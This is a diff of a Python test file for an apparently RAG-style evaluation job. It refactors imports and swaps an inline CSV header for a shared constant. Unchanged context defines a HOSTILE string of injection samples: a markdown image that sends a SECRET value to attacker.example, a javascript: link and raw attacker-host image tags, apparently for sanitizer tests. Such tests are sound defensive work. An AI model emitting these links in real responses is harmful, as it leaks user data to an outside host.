@@ -16,8 +16,7 @@ from jobs.common.config import load_profile
 from jobs.common.errors import JobError
 from jobs.eval import job as ev
 from jobs.ingest.job import ingest
-from tests.conftest import FakeChatServer
-from tests.test_failed_nights import fake_served_profile
+from tests.conftest import HEADER, FakeChatServer, fake_served_profile
 
 HOSTILE = ("See ![status](http://attacker.example/leak.png?q=SECRET) and [the docs](javascript:alert(1)), "
            "<img src=http://attacker.example/raw.png>, <http://attacker.example/angle>, "
@@ -67,8 +66,8 @@ def hostile_run(tmp_path, corpus_dir, minilm_path, minilm_embedder):
         profile = load_profile(str(path))
         ingest(profile, embedder=minilm_embedder)
         qs = tmp_path / "q.csv"
-        qs.write_text("id,question,language,expected_keywords,expected_sources,category,notes\n"
-                      "p1,How does Lumen report training progress and pixels?,en,progress,docs/en/pixels.md,howto,\n"
+        qs.write_text(HEADER
+                      + "p1,How does Lumen report training progress and pixels?,en,progress,docs/en/pixels.md,howto,\n"
                       "p2,What is the default learning rate in Lumen?,en,3e-4,docs/en/config.md,english,\n",
                       encoding="utf-8")
         run, df, *_ = ev.evaluate(profile, questions=qs)
